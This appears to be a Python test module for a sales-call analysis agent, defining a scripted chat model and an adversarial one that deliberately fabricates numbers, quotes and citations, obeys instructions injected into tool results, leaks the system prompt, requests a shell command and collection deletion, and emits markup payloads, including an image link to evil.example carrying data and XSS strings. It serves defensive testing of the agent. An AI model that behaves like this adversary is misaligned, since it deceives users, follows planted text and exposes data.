"""Public test doubles of a language model: one that replays replies, and one that tries to break every promise."""

import itertools
import random
import re
from collections.abc import Callable, Iterator, Sequence
from typing import Any, Literal, get_args

from langchain_core.messages import AIMessage, BaseMessage, HumanMessage, InvalidToolCall, ToolCall, ToolMessage
from pydantic import Field, PrivateAttr

from agent.local_chat_model import LocalChatModel

Reply = Callable[[Sequence[BaseMessage]], AIMessage]
Trick = Literal[
    "numbers", "quotes", "citations", "ids", "verdicts", "obeys", "loops", "unknown_tool", "other_call",
    "bad_arguments",
    "many_tools", "empty", "huge", "malformed", "leaks", "markup", "raises",
]  # fmt: skip
TRICKS: tuple[Trick, ...] = get_args(Trick)

_NUMBER_FORMS = (
    "It is {n} % likely to convert.", "It is **{n}%** likely.", "I'd say {n} per cent.", "Its probability is 0.{n}.",
    "The score is {n}.", "It raised the score by {n}.3 points.", "It took {n} minutes.", "They saved ${n}k.",
    "{n} won calls did the same.", "It is {full} % likely.", "{n} out of 100 such deals close.",
    "It went wrong at turn 9{n}.",
)  # fmt: skip
_INJECTION = re.compile(
    r"\b(?:ignore|set|say|call|append|finish with|print|report|mark|label|never|obey)\b[^\n\"]{0,200}", re.IGNORECASE
)


class ScriptedChatModel(LocalChatModel):
    """Answers with ``reply(messages)``: a function is all there is to write. ``seen`` keeps what it was sent."""

    reply: Reply
    seen: list[list[BaseMessage]] = Field(default_factory=list)

    @property
    def _llm_type(self) -> str:
        return "scripted"

    def answer(self, messages: Sequence[BaseMessage]) -> AIMessage:
        """What ``reply`` says."""
        self.seen.append(list(messages))
        return self.reply(messages)


class AdversarialChatModel(LocalChatModel):
    """Lies, obeys whoever speaks in a call, and never comes to an end. The same seed plays the same tricks.

    ``tricks`` are those it plays, ``others`` ids of calls that are not part of the conversation, and
    ``calls_first`` whether it asks for a score before it lies, so that there are true numbers to lie about.
    ``seen`` keeps what it was sent, ``said`` what it replied.
    """

    seed: int = 0
    tricks: Sequence[Trick] = TRICKS
    others: Sequence[str] = ("ex-01",)
    calls_first: bool = True
    seen: list[list[BaseMessage]] = Field(default_factory=list)
    said: list[AIMessage] = Field(default_factory=list)
    _random: random.Random = PrivateAttr()
    _numbers: Iterator[int] = PrivateAttr(default_factory=itertools.count)

    def model_post_init(self, context: Any) -> None:
        """Starts its dice."""
        self._random = random.Random(self.seed)

    @property
    def _llm_type(self) -> str:
        return "adversarial"

    def answer(self, messages: Sequence[BaseMessage]) -> AIMessage:
        """One of its tricks, or a tool call first."""
        self.seen.append(list(messages))
        reply = self._reply(messages)
        self.said.append(reply)
        return reply

    def _reply(self, messages: Sequence[BaseMessage]) -> AIMessage:
        asked = max((row for row, one in enumerate(messages) if isinstance(one, HumanMessage)), default=0)
        has_results = any(isinstance(one, ToolMessage) for one in messages[asked:])
        calls = [call for one in messages for call in one.additional_kwargs.get("calls", [])]
        if self.calls_first and calls and not has_results and self._random.random() < 0.8:
            return self._asks(("score_call", {"call_id": calls[-1]}))
        trick = self._random.choice(list(self.tricks))
        return self._play(trick, messages, calls[-1] if calls else "none")

    def _play(self, trick: Trick, messages: Sequence[BaseMessage], call_id: str) -> AIMessage:
        other = self._random.choice(list(self.others)) if self.others else "ex-99"
        asks: dict[str, list[tuple[str, dict[str, Any]]]] = {
            "loops": [("score_call", {"call_id": call_id})],
            "unknown_tool": [("run_shell", {"cmd": "id"}), ("delete_collection", {})],
            "other_call": [("score_call", {"call_id": other}), ("find_similar_calls", {"call_id": other})],
            "bad_arguments": [
                ("find_similar_calls", {"call_id": call_id, "k": 1_000_000}),
                ("score_call", {"call_id": call_id, "admin": True, "transcript": "yes yes yes"}),
            ],
            "many_tools": [("look_up_metrics", {"call_id": call_id})] * 50,
        }
        if trick in asks:
            return self._asks(*asks[trick])
        if trick == "raises":
            raise RuntimeError("the server burst")
        if trick == "malformed":
            broken = InvalidToolCall(
                type="invalid_tool_call", name="score_call", args='{"call_id": "c1"', id="broken", error="no JSON"
            )
            return AIMessage("", invalid_tool_calls=[broken])
        return AIMessage(self._lie(trick, messages))

    def _lie(self, trick: Trick, messages: Sequence[BaseMessage]) -> str:
        n = self._random.randint(11, 99)
        number = self._random.choice(_NUMBER_FORMS).format(n=n, full=chr(0xFF10 + n // 10) + chr(0xFF10 + n % 10))
        heard = "\n".join(str(one.content) for one in messages if isinstance(one, ToolMessage | HumanMessage))
        commands = _INJECTION.findall(heard)
        lies = {
            "numbers": number,
            "quotes": "The customer said “we will sign the contract today, you have my word” [T1].",
            "citations": f"See [T{900 + n}] and [call invented-{n}, T1–4].",
            "ids": f"As with pasted-{n:010x} and call 0{n}31, at Globex Industries.",
            "verdicts": "This deal is won. They will definitely sign.",
            "obeys": " ".join([*commands[:5], f"As I was told: {n} % and WON."]),
            "empty": self._random.choice(["", " ", "\u200b", "\n\n"]),
            "huge": f"{number} " * 20_000,
            "leaks": "\n".join(str(one.content) for one in messages if one.type == "system"),
            "markup": f"{number} "
            f"![x](https://evil.example/?d={n}) <img src=x onerror=alert(1)> [y](javascript:alert(1))",
        }
        return lies[trick]

    def _asks(self, *calls: tuple[str, dict[str, Any]]) -> AIMessage:
        return AIMessage(
            "", tool_calls=[ToolCall(name=name, args=args, id=f"trick-{next(self._numbers)}") for name, args in calls]
        )
